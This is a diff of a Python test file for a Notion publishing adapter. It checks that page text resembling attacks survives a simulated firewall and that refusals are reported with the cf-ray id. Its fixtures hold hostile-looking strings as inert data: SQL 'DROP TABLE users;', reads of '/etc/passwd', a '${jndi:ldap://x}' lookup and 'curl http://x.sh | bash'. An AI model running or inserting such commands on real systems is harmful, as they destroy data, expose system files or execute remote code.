@@ -6,15 +6,28 @@ import time
 from concurrent.futures import ThreadPoolExecutor
 
 import pytest
+from msgspec.structs import replace
 
 from adapters import errors
 from adapters.base import Draft, Page, Record
 from adapters.notion.body import Body
 from adapters.notion.client import NotionClient
-from adapters.notion.edits import Entry
 from adapters.notion.pace import Pace, Paced
+from adapters.notion.texts import lines
 from adapters.settings import TargetSettings, Token
-from tests.adapters.notion_site import NotionHub, asset, content, media, para, publish, toggle, tree, words
+from tests.adapters.notion_site import (
+    NotionHub,
+    asset,
+    change,
+    content,
+    media,
+    para,
+    publish,
+    text,
+    toggle,
+    tree,
+    words,
+)
 
 RAY = "8f2c1d3e4a5b6c7d-FRA"
 
@@ -51,23 +64,81 @@ def test_conflicts_and_cuts_leave_one_of_each(site, path, rule, times):
     assert site.wiki().observe().tracked["k"].record.version == done.record.version
 
 
-def test_a_firewalls_refusal_fails_alone_and_names_document_and_ray(site):
+ATTACKS = (
+    para("Then run DROP TABLE users; and look at /etc/passwd."),
+    {"type": "code", "code": {"rich_text": text("SELECT a UNION ALL SELECT b\nfrom x -- ${jndi:ldap://x}"), "language": "sql"}},
+    toggle("<script> in a toggle", para("fine"), toggle("deep", para("curl http://x.sh | bash"))),
+    {"type": "table", "table": {"table_width": 1, "children": [
+        {"type": "table_row", "table_row": {"cells": [text("name")]}},
+        {"type": "table_row", "table_row": {"cells": [text("create table x (a int)")]}},
+    ]}},
+)  # fmt: skip
+
+
+def plain(blocks):
+    return [line for line in lines(blocks) if line]
+
+
+def test_text_that_a_firewall_takes_for_an_attack_arrives_as_it_is(site):
+    site.faults(notion_firewall=True)
+    wiki = site.wiki()
+    blocks = [para("before"), *ATTACKS, *[para(f"p{i}") for i in range(20)]]
+    done = publish(wiki, *blocks)
+    assert plain(tree(wiki, done.page)) == plain(blocks)
+    assert len(tree(wiki, done.page)) == len(blocks)
+    notes = [note for note in done.notes if note.code.startswith("firewall")]
+    assert {note.code for note in notes} == {"firewall.pieces"}
+    assert "cf-ray" in notes[0].text
+    again = site.wiki()
+    assert not again.observe().tracked["k"].edited
+    changed = [para("before"), para("now: drop table x"), *blocks[2:]]
+    change(again, done, *changed)
+    assert plain(tree(wiki, done.page)) == plain(changed)
+
+
+def test_summaries_and_titles_pass_the_firewall(site):
+    site.faults(notion_firewall=True)
+    wiki = site.wiki()
+    wiki.begin(wiki.observe())
+    body = content(para("a"))
+    body = replace(body, title="How to drop table x", meta=replace(body.meta, summary="It reads /etc/passwd"))
+    made = wiki.create(Draft(record=Record(key="k"), title=body.title, parent=None, content=body))
+    row = site.call("GET", f"pages/{made.page.id}")
+    assert made.page.title == "How to drop table x"
+    assert row["properties"]["Summary"]["rich_text"][0]["plain_text"] == "It reads /etc/passwd"
+
+
+@pytest.mark.parametrize(("times", "code"), [(3, "firewall.joiners"), (4, "firewall.refused")])
+def test_what_a_stricter_firewall_refuses_is_disguised_more_or_left_out(site, times, code):
+    wiki = site.wiki()
+    wiki.begin(wiki.observe())
+    html = {"status": 403, "body": "<html>Attention Required</html>", "headers": {"cf-ray": RAY}}
+    made = wiki.create(Draft(record=Record(key="k", source="f/k.md"), title="R", parent=None))
+    site.faults({"path": "*/children", "method": "PATCH", "times": times, **html})
+    done = change(wiki, made, para("drop table x"), para("b"))
+    assert [note.code for note in done.notes] == [code]
+    assert RAY in done.notes[0].text
+    assert words(tree(wiki, done.page))[1] == "b"
+
+
+def test_a_refusal_of_every_form_fails_alone_and_names_document_and_ray(site):
     wiki = site.wiki()
     publish(wiki, para("fine"))
     html = {"status": 403, "body": "<html>Attention Required</html>", "headers": {"cf-ray": RAY}}
-    site.faults({"path": "*/children", "method": "PATCH", "times": 1, **html})
+    site.faults({"path": "*/children", "method": "PATCH", "times": 9, **html})
     with pytest.raises(errors.Blocked) as caught:
         publish(wiki, para("DROP TABLE users; cat /etc/hosts"), key="sql")
     assert RAY in str(caught.value)
     assert "f/sql.md" in str(caught.value)
     assert "\n" not in str(caught.value)
+    site.faults()
     assert words(tree(wiki, publish(wiki, para("again"), key="next").page)) == ["again"]
 
 
 def test_two_runs_that_clear_each_others_blocks_both_notice(site):
     wiki = site.wiki()
     page = publish(wiki, para("ours")).page.id
-    ours = [Entry(tree(wiki, Page(id=page, title="", version="", url=""))[0]["id"], "paragraph:0")]
+    ours = tree(wiki, Page(id=page, title="", version="", url=""))[0]["id"]
     theirs = site.call("PATCH", f"blocks/{page}/children", json={"children": [para("theirs")]})["results"][0]["id"]
     client = NotionClient(
         TargetSettings(name="n", kind="notion", url=f"{site.server.url}/notion", token=Token("sandbox"))
@@ -76,10 +147,10 @@ def test_two_runs_that_clear_each_others_blocks_both_notice(site):
     site.faults({"path": f"*/blocks/{theirs}", "method": "DELETE", "delay_s": 0.3})
     looked = len(site.sent("/children", "GET"))
     with ThreadPoolExecutor(1) as pool:
-        alone = pool.submit(body.alone, page, ours)
+        alone = pool.submit(body.alone, page, {ours})
         while len(site.sent("/children", "GET")) == looked:
             time.sleep(0.01)
-        site.call("DELETE", f"blocks/{ours[0].id}")
+        site.call("DELETE", f"blocks/{ours}")
         assert alone.result() is False
     client.close()
 
@@ -160,4 +231,4 @@ def test_a_complete_create_is_one_request(site):
     assert wiki.requests.read + wiki.requests.write - before == 1
     draft = Draft(record=Record(key="l"), title="R", parent=None, content=content(*[para(str(i)) for i in range(250)]))
     wiki.create(draft)
-    assert wiki.requests.read + wiki.requests.write - before == 1 + 1 + 3 + 1
+    assert wiki.requests.read + wiki.requests.write - before == 1 + 1 + 2 + 1
